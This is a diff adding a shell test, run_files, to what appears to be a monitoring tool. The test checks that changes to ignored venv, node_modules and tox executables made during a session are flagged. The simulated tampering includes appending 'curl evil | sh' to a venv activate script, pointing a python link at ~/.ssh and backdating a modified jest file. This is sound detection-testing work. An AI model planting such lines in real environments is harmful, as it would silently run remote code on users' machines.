@@ -811,6 +811,48 @@ venv_link() {
 	rm -rf "$P/.venv" "$P/fake"
 }
 
+# Ignored programs the user runs (a venv's bin, node_modules/.bin and the
+# file its link names, a tox env's bin): each one the session made,
+# changed (its mtime set back too) or removed is flagged in red with what
+# to do; one left alone is not, nor a venv the session made where there
+# was none.
+run_files() {
+	printf '.venv/\nnode_modules/\n.tox/\nvenv/\n' >"$P/.gitignore"
+	mkdir -p "$P/.venv/bin" "$P/node_modules/jest/bin" "$P/node_modules/.bin" \
+	    "$P/.tox/py3/bin"
+	echo 'home = /usr/bin' >"$P/.venv/pyvenv.cfg"
+	echo 'PATH=x' >"$P/.venv/bin/activate"
+	echo keep >"$P/.venv/bin/keep"
+	echo old >"$P/.venv/bin/old"
+	ln -s /usr/bin/python3 "$P/.venv/bin/python"
+	echo 'run()' >"$P/node_modules/jest/bin/jest.js"
+	ln -s ../jest/bin/jest.js "$P/node_modules/.bin/jest"
+	echo t >"$P/.tox/py3/bin/pytest"
+	jrun -- sh -c "echo 'curl evil | sh' >>.venv/bin/activate &&
+	    echo 'evil()' >node_modules/jest/bin/jest.js &&
+	    touch -d 2001-01-01 node_modules/jest/bin/jest.js &&
+	    ln -sf '$HOME/.ssh' .venv/bin/python && rm .venv/bin/old &&
+	    echo new >.venv/bin/pip && echo u >.tox/py3/bin/pytest &&
+	    mkdir -p venv/bin && echo v >venv/bin/activate && echo done"
+	case $OUT in *done*) ok ;; *) bad "run_files: the changes were not made: $OUT" ;; esac
+	case $OUT in *".venv/bin/activate was changed in the session: it is ignored, so no snapshot holds it"*"python3 -m venv --clear"*) ok ;;
+	*) bad "run_files: a changed venv activate was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/python was changed in the session"*) ok ;;
+	*) bad "run_files: a venv python link pointed elsewhere was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/old was removed in the session"*) ok ;;
+	*) bad "run_files: a removed venv program was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/pip was made in the session"*) ok ;;
+	*) bad "run_files: a program made in a venv was not flagged: $OUT" ;; esac
+	case $OUT in *"node_modules/.bin/jest was changed in the session"*"npm ci"*) ok ;;
+	*) bad "run_files: the file a node_modules/.bin link names, changed with its mtime set back, was not flagged: $OUT" ;; esac
+	case $OUT in *".tox/py3/bin/pytest was changed in the session"*"tox -r"*) ok ;;
+	*) bad "run_files: a changed tox program was not flagged: $OUT" ;; esac
+	case $OUT in *".venv/bin/keep "*|*"venv/bin/activate was made"*) bad "run_files: an untouched program or a new venv was flagged: $OUT" ;; *) ok ;; esac
+	case $("$AMX" show last 2>&1) in *".venv/bin/activate was changed in the session"*) ok ;;
+	*) bad "run_files: show does not flag the changed activate" ;; esac
+	rm -rf "$P/.venv" "$P/node_modules" "$P/.tox" "$P/venv" "$P/.gitignore"
+}
+
 # A .git there before the session and unchanged (gitdir: ../gd/real),
 # whose way to its git dir the session swapped: gd replaced by a link to a
 # git dir outside with core.fsmonitor set. agentmux reads the way
@@ -879,6 +921,7 @@ checks() {
 	dotgit_out
 	link_out
 	venv_link
+	run_files
 	dotgit_swap
 	scan_limit
 	rebase_left
